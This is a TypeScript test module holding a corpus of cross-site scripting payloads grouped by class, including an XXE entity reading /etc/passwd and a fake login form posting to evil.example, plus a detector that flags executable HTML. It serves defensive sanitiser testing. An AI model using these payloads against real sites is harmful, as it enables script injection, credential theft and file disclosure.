/**
 * Hostile input for the XSS tests (issue 13): what attackers and careless imports put into text
 * fields, HTML and links. Each payload tries to run `alert` so a browser test notices it through a
 * dialog; the static checks in `findExecutable` catch the rest (handlers, script URLs, frames).
 * Grouped by class so the report can say how many cases of each were tried.
 */
import { parseDocument } from 'htmlparser2';
import { isTag, type ChildNode, type Element } from 'domhandler';

export type XssClass =
  | 'script-tag'
  | 'event-handler'
  | 'dangerous-url'
  | 'svg-mathml'
  | 'entity-encoding'
  | 'attribute-breakout'
  | 'script-context-breakout'
  | 'css-injection'
  | 'frame-embed-object'
  | 'meta-base-form'
  | 'mutation-parser-differential'
  | 'xml-feed-breakout';

export interface XssCase {
  class: XssClass;
  payload: string;
}

const cases: Record<XssClass, string[]> = {
  'script-tag': [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<script src="https://evil.example/x.js"></script>',
    '<script/src=data:,alert(1)></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1);//<</script>',
    '<script type="module">alert(1)</script>',
    '<script>/*</script><script>*/alert(1)</script>',
    '"><script>alert(1)</script>',
  ],
  'event-handler': [
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)">',
    '<IMG SRC=x ONERROR=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="/ok" onclick="alert(1)">click</a>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<p onpointerenter=alert(1)>x</p>',
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>',
    '<td colspan="2" onmouseover="alert(1)">x</td>',
    '<x onclick=alert(1)>x</x>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  ],
  'dangerous-url': [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    '&#x6A;avascript:alert(1)',
    'jav&#x09;ascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '//evil.example/',
    '/\\evil.example/',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="  JAVASCRIPT:alert(1)">link</a>',
    '<a href="jav&#x61;script:alert(1)">link</a>',
    '<a href="java&#13;script:alert(1)">link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href=javascript&colon;alert(1)>link</a>',
    '[link](javascript:alert(1))',
    '[link](JAVASCRIPT:alert(1))',
    '[link](data:text/html,alert(1))',
  ],
  'svg-mathml': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  'entity-encoding': [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3C;img src=x onerror=alert(1)&#x3E;',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
    '\u202Egnp.exe\u202C <b>x</b>',
  ],
  'attribute-breakout': [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '`><img src=x onerror=alert(1)>',
    '" style="background:url(javascript:alert(1))',
  ],
  'script-context-breakout': [
    '</script><script>alert(1)</script>',
    '</SCRIPT><img src=x onerror=alert(1)>',
    '<!--<script>alert(1)</script>-->',
    '<!--',
    '\u2028alert(1)\u2029',
    '"}]</script><script>alert(1)</script>',
    '</script ><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
  ],
  'css-injection': [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="behavior: url(x.htc)">x</p>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
    '<span style="-moz-binding:url(https://evil.example/x.xml#x)">x</span>',
  ],
  'frame-embed-object': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<frameset onload=alert(1)>',
    '<portal src="https://evil.example/"></portal>',
  ],
  'meta-base-form': [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
    '<button form="x" formaction="javascript:alert(1)">go</button>',
    '<input type="image" src="x" formaction="https://evil.example/">',
    '<isindex action="javascript:alert(1)" type="image">',
  ],
  'mutation-parser-differential': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><script>alert(1)</script></xmp>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<noframes><img src=x onerror=alert(1)></noframes>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="/x"><a href="javascript:alert(1)">nested</a></a>',
    '<table><td><p>x</td><img src=x onerror=alert(1)></table>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  'xml-feed-breakout': [
    ']]><script>alert(1)</script><![CDATA[',
    '</title><link>javascript:alert(1)</link><title>',
    '</description><item><title>fake</title></item>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
    '\u0000\u0008\u000B\u000C\uFFFE\uD800',
  ],
};

/** Every payload, tagged with its class. */
export const XSS_CORPUS: readonly XssCase[] = Object.entries(cases).flatMap(([cls, payloads]) => payloads.map((payload) => ({ class: cls as XssClass, payload })));

/** Number of payloads per class, for reports. */
export function corpusCounts(): Record<XssClass, number> {
  return Object.fromEntries(Object.entries(cases).map(([cls, payloads]) => [cls, payloads.length])) as Record<XssClass, number>;
}

/** Payloads shortened to fit a field of `max` characters (long ones keep their dangerous start). */
export function fitted(payload: string, max: number): string {
  return payload.length <= max ? payload : payload.slice(0, max);
}

const SCRIPT_URL = /^\s*(?:javascript|vbscript|data):/i;
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcdoc', 'lowsrc', 'dynsrc', 'codebase']);
/** Elements that execute, embed or redirect, whatever their attributes. */
const DANGEROUS_ELEMENTS = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'portal', 'isindex']);

export interface Finding {
  element: string;
  problem: string;
}

/** Decodes the control characters and whitespace a browser ignores inside a URL scheme. */
function normalisedUrl(value: string): string {
  return value.replace(/[\u0000-\u0020\u007f]/g, '');
}

/**
 * Everything in `html` that could run code or take the reader elsewhere: script elements (JSON-LD
 * excepted, and `allowedScripts` — ours, matched by `src` or exact text), `on*` attributes,
 * script/data URLs in any URL attribute, frames and objects, `<meta http-equiv=refresh>`, `<base>`,
 * forms posting off-site and style attributes calling `url(javascript:)` or `expression()`.
 */
export function findExecutable(html: string, { allowedScripts = [] as readonly ((el: Element) => boolean)[] } = {}): Finding[] {
  const findings: Finding[] = [];
  const visit = (nodes: readonly ChildNode[]) => {
    for (const node of nodes) {
      if (!isTag(node)) continue;
      const name = node.name.toLowerCase();
      if (name === 'script') {
        const type = (node.attribs.type ?? '').toLowerCase();
        if (type !== 'application/ld+json' && !allowedScripts.some((ok) => ok(node))) findings.push({ element: name, problem: 'script element' });
      } else if (DANGEROUS_ELEMENTS.has(name)) findings.push({ element: name, problem: 'embedding element' });
      if (name === 'meta' && /refresh/i.test(node.attribs['http-equiv'] ?? '')) findings.push({ element: name, problem: 'meta refresh' });
      if (name === 'form' && node.attribs.action && !/^\/(?!\/)/.test(node.attribs.action)) findings.push({ element: name, problem: `form posting to ${node.attribs.action}` });
      for (const [attribute, value] of Object.entries(node.attribs)) {
        const attr = attribute.toLowerCase();
        if (attr.startsWith('on')) findings.push({ element: name, problem: `${attr} attribute` });
        if (URL_ATTRIBUTES.has(attr) && SCRIPT_URL.test(normalisedUrl(value)) && !(attr === 'src' && name === 'img' && /^data:image\/(?:png|gif|jpeg|webp|avif);/i.test(value)))
          findings.push({ element: name, problem: `${attr}=${value.slice(0, 40)}` });
        if (attr === 'srcdoc') findings.push({ element: name, problem: 'srcdoc' });
        if (attr === 'style' && /expression\s*\(|url\s*\(\s*['"]?\s*(?:javascript|vbscript|data):|behavior\s*:|-moz-binding/i.test(value))
          findings.push({ element: name, problem: `style ${value.slice(0, 40)}` });
      }
      visit(node.children);
    }
  };
  visit(parseDocument(html).children);
  return findings;
}
